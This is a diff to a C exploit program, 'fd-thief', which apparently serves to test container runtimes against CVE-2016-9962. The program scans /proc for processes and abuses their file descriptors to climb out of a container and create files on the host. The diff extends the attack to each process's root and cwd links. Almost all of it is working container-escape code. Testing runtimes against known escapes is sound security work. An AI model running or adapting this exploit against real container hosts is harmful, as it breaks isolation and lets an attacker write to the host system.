@@ -3,9 +3,9 @@
  * fd-thief HOST_PATH STOP_FILE: the CVE-2016-9962 attack, run in a
  * container granted CAP_SYS_PTRACE. Until STOP_FILE exists (inside the
  * container), it watches /proc for processes other than itself and its
- * PID 1 and tries every fd of each: as a folder, it creates "pwned" in
- * it (the state folder, a cgroup folder) and climbs with ".." to the
- * host's root to create HOST_PATH there. Prints what it saw ("seen N fds
+ * PID 1 and tries every fd of each, and its root and cwd links: as a
+ * folder, it creates "pwned" in it (the state folder, a cgroup folder)
+ * and climbs with ".." to the host's root to create HOST_PATH there. Prints what it saw ("seen N fds
  * of M processes") and one line "ESCAPED ..." per file it made. Exit 0.
  */
 #include <dirent.h>
@@ -32,12 +32,28 @@ static void try_create(const char *path, const char *what)
 	fflush(stdout);
 }
 
+/* The process's root and cwd: a host folder before it enters the
+ * container's root is as good as an fd. */
+static void rob_links(const char *pid, const char *host_path)
+{
+	static const char *const links[] = { "root", "cwd" };
+	char path[4096];
+
+	for (size_t i = 0; i < sizeof(links) / sizeof(links[0]); i++) {
+		snprintf(path, sizeof(path), "/proc/%s/%s/pwned", pid, links[i]);
+		try_create(path, links[i]);
+		snprintf(path, sizeof(path), "/proc/%s/%s/" CLIMB "%s", pid, links[i], host_path);
+		try_create(path, links[i]);
+	}
+}
+
 static void rob(const char *pid, const char *host_path)
 {
 	char dir[64], path[4096];
 	DIR *d;
 	struct dirent *e;
 
+	rob_links(pid, host_path);
 	snprintf(dir, sizeof(dir), "/proc/%s/fd", pid);
 	d = opendir(dir);
 	if (!d)
